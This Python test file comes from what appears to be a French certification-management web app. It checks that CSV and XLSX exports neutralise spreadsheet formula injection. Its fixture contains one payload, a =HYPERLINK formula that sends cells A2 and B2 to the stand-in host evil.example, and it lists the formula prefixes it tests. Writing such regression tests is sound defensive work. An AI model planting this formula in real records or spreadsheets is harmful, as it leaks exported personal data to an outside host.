"""Issue 16, defect 1: « a candidate's first name =HYPERLINK("https://…?d="&A2&B2,"Voir") reaches
the centre's exports and the certificateur's supervision export as a live formula; the CSV cell
starts with = ». Every CSV/XLSX cell starting with = + - @, tab or CR is written as text."""

import csv
import io

import pytest
from openpyxl import load_workbook

from candidates.models import Candidate
from core.exports import csv_cell, csv_writer
from organisations.tenancy import tenant_context

EVIL = '=HYPERLINK("https://evil.example/?d="&A2&B2,"Voir")'


@pytest.fixture
def evil(world, org_a):
    with tenant_context(org_a):
        Candidate.objects.filter(pk=world["a1"].candidate_id).update(prenom1=EVIL, prenom2="", prenom3="")


def _csv_rows(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=";"))


def test_supervision_exports_write_the_formula_as_text(world, evil, cci_user, client_for, api_for):
    base = f"/o/{world['cci'].slug}/supervision"
    rows = _csv_rows(client_for(cci_user).get(f"{base}/export.csv").content)
    cells = [c for r in rows for c in r]
    assert "'" + EVIL in cells and EVIL not in cells
    assert not any(c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in cells)
    for response in (
        client_for(cci_user).get(f"{base}/export.xlsx"),
        api_for(cci_user).get(f"/api/v1/o/{world['cci'].slug}/supervision/resultats/export/xlsx/"),
    ):
        assert response.status_code == 200
        sheet = load_workbook(io.BytesIO(response.content)).active
        texts = [cell for row in sheet.iter_rows() for cell in row if cell.value == EVIL]
        assert texts and all(cell.data_type == "s" for cell in texts)
        assert not any(cell.data_type == "f" for row in sheet.iter_rows() for cell in row)


def test_centre_candidate_exports_write_the_formula_as_text(world, evil, org_a, alice, client_for):
    client = client_for(alice)
    response = client.get("/o/centre-a/candidats/export.csv")
    rows = _csv_rows(b"".join(response.streaming_content))
    cells = [c for r in rows for c in r]
    assert "'" + EVIL in cells and EVIL not in cells
    sheet = load_workbook(io.BytesIO(client.get("/o/centre-a/candidats/export.xlsx").content)).active
    assert any(cell.value == EVIL and cell.data_type == "s" for row in sheet.iter_rows() for cell in row)
    assert not any(cell.data_type == "f" for row in sheet.iter_rows() for cell in row)


@pytest.mark.parametrize("value", ["=1+1", "+33 6", "-2", "@A1", "\tx", "\rx"])
def test_every_formula_prefix_is_neutralised(value):
    assert csv_cell(value) == "'" + value
    out = io.StringIO()
    csv_writer(out, delimiter=";").writerow([value, "Durand", 12])
    first = next(csv.reader(io.StringIO(out.getvalue()), delimiter=";"))[0]
    assert first == "'" + value


def test_plain_values_are_unchanged():
    assert [csv_cell(v) for v in ["Durand", "", 12, None, "a=b"]] == ["Durand", "", 12, None, "a=b"]


def test_every_export_goes_through_the_shared_helper():
    """No app writes CSV or XLSX rows but through ``core.exports`` (the one place that neutralises)."""
    import re
    from pathlib import Path

    root = Path(__file__).resolve().parents[2]
    offenders = []
    for path in root.glob("*/**/*.py"):
        rel = path.relative_to(root).as_posix()
        if rel.startswith((".venv/", "tests/", "bench/", "node_modules/")) or rel == "core/exports.py":
            continue
        text = path.read_text(encoding="utf-8")
        if re.search(r"csv\.(writer|DictWriter)\(|\bsheet\.append\(\[|\.cell\(.*value=", text):
            offenders.append(rel)
    assert offenders == []
